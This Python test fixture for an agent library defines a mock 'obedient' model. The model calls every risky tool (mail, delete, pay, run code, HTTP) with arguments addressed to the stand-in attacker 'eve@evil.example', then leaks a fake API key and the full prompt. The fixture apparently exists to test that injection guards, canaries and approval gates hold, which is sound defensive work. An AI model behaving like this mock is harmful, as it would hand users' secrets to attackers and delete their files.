"""A model that does whatever any text tells it to, and more; and what it gets to hold."""

import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from itertools import count

from liteagent import Agent, create_token_limited_memory, request_human_input, tool
from liteagent.contracts.llm import LLMItem, LLMRequest, LLMResponse, ModelInfo, TextDelta
from liteagent.contracts.messages import Message, Role, ToolCall
from liteagent.contracts.tools import Tool, ToolDefinition
from liteagent.engine.agent.guards import Guards
from liteagent.engine.agent.prefetch import Prefetch

__all__ = ["CANARY", "SECRET", "World"]

CANARY = "canary-5f1c27aa"
SECRET = "sk-live-0123456789abcdefghijklmn"

_WANTED = ("send_mail", "delete_files", "pay", "run_code", "http_request", "ask_clerk")


class ObedientLLM:
    """Calls every tool that a text could want, with what a thief wants; then tells all that it has read."""

    model = "obedient"

    def __init__(self) -> None:
        self._numbers = count()
        self.read: list[str] = []

    async def stream(self, request: LLMRequest) -> AsyncIterator[LLMItem]:
        """Obey."""
        whole = "\n".join(message.content for message in request.messages)
        self.read.append(whole)
        spoken = sum(message.role is Role.ASSISTANT for message in request.messages)
        if spoken < 2:
            message = Message(Role.ASSISTANT, "", tuple(self._calls(whole)))
            yield LLMResponse(message, finish_reason="tool_calls")
            return
        told = f"Sent {SECRET} and the prompt: {whole}"
        for at in range(0, len(told), 7):
            yield TextDelta(told[at : at + 7])
        yield LLMResponse(Message(Role.ASSISTANT, told))

    def _calls(self, whole: str) -> list[ToolCall]:
        named = re.findall(r"\b[a-z]+(?:_[a-z]+)+\b", whole)
        names = dict.fromkeys((*_WANTED, *named[:20], "read_note"))
        loot = json.dumps({"to": "eve@evil.example", "name": whole[-400:], "path": "/", "task": whole[-400:]})
        return [ToolCall(f"c{next(self._numbers)}", name, loot) for name in names]

    async def models(self) -> tuple[ModelInfo, ...]:
        """None."""
        return ()

    async def aclose(self) -> None:
        """Nothing to release."""


@dataclass
class World:
    """What can be done, and what was done."""

    text: str
    done: list[tuple[str, str]] = field(default_factory=list[tuple[str, str]])

    def agent(self, mode: str = "flag") -> Agent:
        """May read notes by itself; writing mails needs approval; the clerk deletes files, with approval."""
        guards = Guards("block" if mode == "block" else "flag", canary=CANARY)
        memory = create_token_limited_memory(1_000_000)
        deletes = [self._delete_files()]
        clerk = Agent(ObedientLLM(), purpose="Keep files.", tools=deletes, guards=guards, memory=memory)
        return Agent(
            ObedientLLM(),
            purpose="Answer from the notes.",
            tools=[self._read_note(), self._send_mail(), request_human_input],
            agents={"clerk": clerk},
            prefetch=[Prefetch("read_note", {"name": "today"})],
            guards=guards,
            memory=memory,
        )

    def _read_note(self) -> Tool:
        @tool(effect="safe")
        def read_note(name: str, to: str = "", path: str = "", task: str = "") -> str:
            """Read a note."""
            self.done.append(("read_note", name))
            return self.text

        return _Untrusted(read_note)

    def _send_mail(self) -> Tool:
        @tool(approval=True)
        def send_mail(to: str, name: str = "", path: str = "", task: str = "") -> str:
            """Send a mail."""
            self.done.append(("send_mail", to))
            return "sent"

        return send_mail

    def _delete_files(self) -> Tool:
        @tool(approval=True)
        def delete_files(path: str, to: str = "", name: str = "", task: str = "") -> str:
            """Delete files."""
            self.done.append(("delete_files", path))
            return "deleted"

        return delete_files


@dataclass(frozen=True)
class _Untrusted:
    """A tool whose results anybody may have written."""

    inner: Tool

    @property
    def definition(self) -> ToolDefinition:
        known = self.inner.definition
        return ToolDefinition(
            known.name, known.description, known.parameters, known.effect, traits=("untrusted_input",)
        )

    async def run(self, arguments: object, context: object) -> object:
        """Read."""
        return await self.inner.run(arguments, context)  # pyright: ignore[reportArgumentType]
